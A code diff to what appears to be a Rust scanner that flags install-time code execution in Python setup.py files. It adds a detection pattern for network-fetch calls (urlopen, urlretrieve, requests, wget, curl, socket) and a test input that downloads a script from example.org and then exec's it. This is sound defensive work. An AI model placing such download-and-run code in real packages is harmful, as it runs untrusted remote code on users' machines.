@@ -57,6 +57,10 @@ static NOT_LOCAL: LazyLock<Regex> = LazyLock::new(|| {
         .expect("not local")
 });
 
+static FETCHES: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r"urlopen|urlretrieve|requests\.|httpx\.|urllib3|http\.client|\bwget\b|\bcurl\b|socket\.")
+        .expect("fetches")
+});
 static STRING: LazyLock<Regex> = LazyLock::new(|| Regex::new(r#""[^"\n]*"|'[^'\n]*'"#).expect("string"));
 
 /// The argument list of a call whose `(` ends at `after_paren`, up to the matching `)`.
@@ -84,6 +88,10 @@ fn exec_of_local_file(text: &str, after_paren: usize) -> bool {
     let Some(args) = argument_text(text, after_paren) else {
         return false;
     };
+    // A module that also downloads may be running what it saved: no idiom then.
+    if FETCHES.is_match(text) {
+        return false;
+    }
     let first = args.split(',').next().unwrap_or("").trim();
     // Judge the code, not path names in it (`"src/websockets/version.py"`).
     if NOT_LOCAL.is_match(&STRING.replace_all(first, "''")) {
@@ -226,6 +234,13 @@ mod tests {
                     "setup.py",
                     InstallTime,
                     "r = urlopen(u)\nexec(r.read())\n",
+                    Some((2, "exec", High)),
+                ),
+                (
+                    "exec of a saved download in setup.py",
+                    "setup.py",
+                    InstallTime,
+                    "urlretrieve('https://example.org/p.py', 'p.py')\nexec(open('p.py').read())\n",
                     Some((2, "exec", High)),
                 ),
                 (
